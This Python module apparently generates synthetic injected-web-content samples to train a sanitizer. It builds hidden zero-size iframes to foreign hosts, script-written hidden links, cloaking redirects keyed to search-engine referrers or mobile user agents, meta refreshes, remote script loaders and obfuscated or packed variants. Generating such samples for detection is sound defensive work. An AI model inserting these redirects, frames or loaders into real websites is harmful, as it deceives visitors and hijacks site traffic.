"""Injected scripts and frames: writers, redirects, cloaking, loaders, packed code, programs."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Final

from sanitizer.training.generator.attacks import attack
from sanitizer.training.generator.composition import Piece
from sanitizer.training.generator.concealment import conceal
from sanitizer.training.generator.markup import links
from sanitizer.training.generator.names import host, identifier
from sanitizer.training.generator.packing import (
    as_data,
    as_digits,
    pack,
    run_decoded,
    run_shifted,
    scatter,
)
from sanitizer.training.generator.spelling import attribute, javascript, open_tag, style_text

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

    from sanitizer.training.generator.payload import Payload

__all__ = ["frame_piece", "loader_piece", "script_piece"]

_CONCEALED: Final = ("display", "offscreen", "tiny-box", "visibility")


def script_piece(rng: Random, payload: Payload) -> Piece:
    """Return one injected script (or a redirect by meta element)."""
    makers = [row[0] for row in _SCRIPTS]
    make = rng.choices(makers, [row[1] for row in _SCRIPTS])[0]
    return Piece(make(rng, payload), "script")


def loader_piece(rng: Random, payload: Payload) -> Piece:
    """Return one injected script that loads another one."""
    return Piece(_loader(rng, payload), "script")


def frame_piece(rng: Random) -> Piece:
    """Return a frame of no size that loads a foreign host."""
    size = rng.choice(("0", "1", "0", "2"))
    address = f"{rng.choice(('http:', 'https:', ''))}//{host(rng)}/{rng.choice(_FRAME_PATHS)}"
    rows = [("src", address)]
    if rng.random() < 0.1:
        tag, name, closing = rng.choice((("object", "data", "</object>"), ("embed", "src", "")))
        rows = [(name, address), ("width", size), ("height", size)]
        return Piece(open_tag(rng, tag, rows) + closing, "frame")
    if rng.random() < 0.7:
        rows += [("width", size), ("height", size)]
        rows += [("frameborder", "0")] if rng.random() < 0.5 else []
    else:
        hiding = rng.choice(([("display", "none")], [("visibility", "hidden")], _SPOT))
        rows.append(("style", style_text(rng, hiding)))
    return Piece(f"{open_tag(rng, 'iframe', rows)}</iframe>", "frame")


_FRAME_PATHS: Final = ("in.cgi?3", "index.php?id=11", "go.php", "", "stat/", "ad.html", "b/1.htm")
_SPOT: Final = [("position", "absolute"), ("left", "-1000px"), ("top", "-1000px")]


def _writer(rng: Random, payload: Payload) -> str:
    """Write hidden links with a script, in one of the spellings."""
    box = conceal(rng, rng.choice(_CONCEALED), "div")
    inner = " ".join(links(rng, payload, rng.randint(1, 12)))
    written = javascript(rng, box.opening + inner + box.closing)
    call = rng.choice(
        (
            "document.write({})",
            "document.writeln({})",
            "document.body.innerHTML+={}",
            "document.body.insertAdjacentHTML('beforeend',{})",
            _HEX_WRITE + "({})",
            "document['write']({})",
        )
    )
    return f"<script{_kind(rng)}>{call.format(written)};</script>"


_HEX_WRITE: Final = (
    'window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65\\x6c\\x6e"]'
)


def _packed(rng: Random, payload: Payload) -> str:
    """Pack one of the others, now and then twice."""
    made = rng.choice((_writer, _redirect, _redirect, _loader, _inserter))(rng, payload)
    code = _TAGS.sub("", made) or f"document.write({javascript(rng, made)});"
    code = " ".join(code.split())
    manner = rng.random()
    if manner < 0.08:
        return f"<script{attribute(rng, 'src', as_data(code))}></script>"
    if manner < 0.2:
        return f"<script{_kind(rng)}>{scatter(rng, code)}</script>"
    if manner < 0.35:
        return f"<script{_kind(rng)}>{as_digits(rng, made)}</script>"
    if manner < 0.6:
        return f"<script{_kind(rng)}>{run_decoded(rng, code)}</script>"
    if manner < 0.7:
        return f"<script{_kind(rng)}>{run_shifted(rng, code)}</script>"
    for _ in range(rng.choice((1, 1, 1, 2))):
        code = pack(rng, code)
    return f"<script{_kind(rng)}>{code}</script>"


_TAGS: Final = re.compile(r"^<script\b[^>]*>|</script>$")


def _target(rng: Random) -> str:
    path = rng.choice(("", "/", "/go/", f"/{identifier(rng)}.php?s={rng.randint(1, 999)}"))
    return f"{rng.choice(('http', 'https'))}://{host(rng)}{path}"


def _redirect(rng: Random, _payload: Payload) -> str:
    """Send visitors away, all of them or those who come from a search engine or a telephone."""
    go = rng.choice(("window.location.href={}", "location.href={}", "top.location={}",
                     "window.location.replace({})", "document.location={}", "location={}",
                     "self.location={}"))  # fmt: skip
    address = javascript(rng, _target(rng))
    name = identifier(rng, 1, 6)
    is_named = rng.random() < 0.25
    code = go.format(name if is_named else address)
    engine = rng.choice(("google", "baidu", "yandex", "bing", "sogou|so.com|baidu", "yahoo"))
    where = rng.choice(("document.referrer", identifier(rng, 3, 6)))
    cookie = identifier(rng)
    condition = rng.choice(
        (
            f"/{engine}/i.test(document.referrer)",
            f'document.referrer.indexOf("{engine}")!=-1',
            "/iphone|android|mobile/i.test(navigator.userAgent)",
            f'navigator.userAgent.toLowerCase().indexOf("{engine}")==-1',
            f"document.cookie.indexOf('{cookie}=')==-1",
            "screen.width<768",
            "document.referrer",
            f"/\\.({engine}|so|sm|360|bing)(\\.[a-z0-9\\-]+){{1,2}}\\//ig.test({where})",
            f"Math.random()<0.{rng.randint(1, 9)}",
            "",
            "",
        )
    )
    body = f"if({condition}){{{code};}}" if condition else f"{code};"
    if is_named:
        body = f"var {name}={address};{body}"
    if f"({where})" in body and where != "document.referrer":
        body = f"var {where}=document.referrer;{body}"
    if "cookie" in condition and rng.random() < 0.5:
        body = f"{body}document.cookie='{cookie}=1;path=/';"
    if rng.random() < 0.3:
        body = f"var {identifier(rng)}={rng.randint(1, 9999)};{body}"
    if rng.random() < 0.15:
        body = f"setTimeout(function(){{{body}}},{rng.choice((0, 100, 3000))});"
    elif not condition and rng.random() < 0.1:
        body = f"setTimeout({javascript(rng, body)},{rng.choice((0, 50, 1000))});"
    return f"<script{_kind(rng)}>{body}</script>"


_LOADED: Final = ("ur.php", "r.php", "ads.js", "jquery.min.js", "js.js")


def _loaded(rng: Random) -> str:
    name = rng.choice((*_LOADED, f"{identifier(rng, 8, 40)}.js", f"{identifier(rng, 1, 4)}.js",
                       f"{identifier(rng, 1, 3)}.php"))  # fmt: skip
    source = f"{rng.choice(('http:', 'https:', ''))}//{host(rng)}/{name}"
    return f"{source}?{identifier(rng)}={rng.randint(1, 99999)}" if rng.random() < 0.3 else source


def _inserter(rng: Random, _payload: Payload) -> str:
    """Load a script by putting it into the page; in plain it is what half of all pages do."""
    var = identifier(rng, 1, 4)
    code = f'var {var}=document.createElement("script");{var}.src={javascript(rng, _loaded(rng))};'
    return f"<script>{code}document.getElementsByTagName('head')[0].appendChild({var});</script>"


def _loader(rng: Random, _payload: Payload) -> str:
    """Load a script of a host that the page has nothing to do with."""
    source = _loaded(rng)
    rows = [("src", source)]
    if rng.random() < 0.4:
        rows.append(("type", "text/javascript"))
    if rng.random() < 0.15:
        written = javascript(rng, f"{open_tag(rng, 'script', rows)}</script>")
        return f"<script{_kind(rng)}>document.write({written});</script>"
    return f"{open_tag(rng, 'script', rows)}</script>"


def _attack(rng: Random, _payload: Payload) -> str:
    return attack(rng)


def _framer(rng: Random, _payload: Payload) -> str:
    """Write a frame of no size."""
    written = javascript(rng, frame_piece(rng).text)
    call = rng.choice(("document.write({});", "document.body.innerHTML+={};"))
    return f"<script{_kind(rng)}>{call.format(written)}</script>"


def _refresh(rng: Random, _payload: Payload) -> str:
    rows = [
        ("http-equiv", "refresh"),
        ("content", f"{rng.choice((0, 0, 1, 3))};url={_target(rng)}"),
    ]
    return open_tag(rng, "meta", rows)


def _kind(rng: Random) -> str:
    return rng.choice(("", "", ' type="text/javascript"', ' language="JavaScript"'))


_SCRIPTS: Final[tuple[tuple[Callable[[Random, Payload], str], int], ...]] = (
    (_writer, 40),
    (_redirect, 40),
    (_loader, 18),
    (_packed, 26),
    (_attack, 28),
    (_framer, 10),
    (_refresh, 5),
)
